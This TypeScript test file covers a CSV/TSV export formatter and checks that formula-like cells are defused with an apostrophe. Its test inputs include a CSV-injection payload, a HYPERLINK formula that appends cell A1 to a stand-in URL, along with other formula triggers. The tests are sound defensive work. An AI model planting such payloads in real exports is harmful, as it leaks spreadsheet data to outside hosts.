import { assert, describe, it } from "@effect/vitest"
import { Schema } from "effect"

import { formatDelimited } from "./delimited.ts"
import { type Cell, listing } from "./rows.ts"

const csv = (rows: ReadonlyArray<ReadonlyArray<Cell>>, safe: boolean, delimiter: "," | "\t" = ",") => {
  const columns = (rows[0] ?? []).map((_, i) => ({ name: `c${i}`, kind: "text" as const }))
  return [...formatDelimited(listing("x", columns, rows), { delimiter, safe })].join("")
}

/** A reader of RFC 4180 that shares nothing with the writer. */
const readCsv = (text: string): Array<Array<string>> => {
  const records: Array<Array<string>> = [[]]
  let field = ""
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const character = text[i]!
    if (quoted) {
      if (character !== '"') field += character
      else if (text[i + 1] === '"') field += text[++i]!
      else quoted = false
    } else if (character === '"') quoted = true
    else if (character === "," || character === "\n") {
      records.at(-1)!.push(field)
      field = ""
      if (character === "\n") records.push([])
    } else field += character
  }
  return records.slice(0, -1)
}

/** As `cut` takes it apart, and PostgreSQL reads its escapes. */
const readTsv = (text: string): Array<Array<string>> =>
  text
    .split("\n")
    .slice(0, -1)
    .map((line) =>
      line
        .split("\t")
        .map((field) =>
          field.replace(/\\(.)/gs, (_, letter: string) => ({ t: "\t", n: "\n", r: "\r" })[letter] ?? letter)
        )
    )

describe("texts that a spreadsheet would run", () => {
  const formulas = [
    `=HYPERLINK("http://example.com/?"&A1,"click")`,
    "=1+1",
    "+1+1",
    "-1+1",
    "-5",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)"
  ]
  it.each(formulas)("%j gets an apostrophe", (formula) => {
    assert.deepStrictEqual(readCsv(csv([[formula, "x"]], true))[1], [`'${formula}`, "x"])
    assert.deepStrictEqual(readTsv(csv([[formula, "x"]], true, "\t"))[1], [`'${formula}`, "x"])
  })
  it.each(formulas)("%j is as it was with --csv-raw", (formula) => {
    assert.deepStrictEqual(readCsv(csv([[formula, "x"]], false))[1], [formula, "x"])
  })
  it("numbers stay numbers, negative ones too", () => {
    assert.strictEqual(csv([[-5, 0.25, -12n]], true), "c0,c1,c2\n-5,0.25,-12\n")
  })
  it("a header that is a formula is made safe too", () => {
    const columns = [{ name: "=1+1", kind: "count" as const }]
    assert.strictEqual(
      [...formatDelimited(listing("x", columns, [[1]]), { delimiter: ",", safe: true })].join(""),
      "'=1+1\n1\n"
    )
  })
})

describe("CSV", () => {
  it("tells null from an empty text", () => {
    assert.strictEqual(csv([[null, "", "a"]], true), 'c0,c1,c2\n,"",a\n')
  })
  it("quotes what needs it", () => {
    assert.strictEqual(csv([['say "hi"', "a,b", "a\nb"]], true), 'c0,c1,c2\n"say ""hi""","a,b","a\nb"\n')
  })
  it.prop("raw text comes back as it was", [Schema.Array(Schema.Tuple([Schema.String, Schema.String]))], ([rows]) => {
    assert.deepStrictEqual(
      readCsv(csv(rows, false)).slice(1),
      rows.map((row) => [...row])
    )
  })
})

describe("TSV", () => {
  it("has no quotes, a line a record, and escapes for what would end a field", () => {
    assert.strictEqual(csv([['say "hi"', "a\tb", "a\r\n\\"]], true, "\t"), 'c0\tc1\tc2\nsay "hi"\ta\\tb\ta\\r\\n\\\\\n')
  })
  it("shows null and an empty text as nothing", () => {
    assert.strictEqual(csv([[null, "", -5, 12n]], true, "\t"), "c0\tc1\tc2\tc3\n\t\t-5\t12\n")
  })
  it.prop("raw text comes back as it was", [Schema.Array(Schema.Tuple([Schema.String, Schema.String]))], ([rows]) => {
    assert.deepStrictEqual(
      readTsv(csv(rows, false, "\t")).slice(1),
      rows.map((row) => [...row])
    )
  })
})
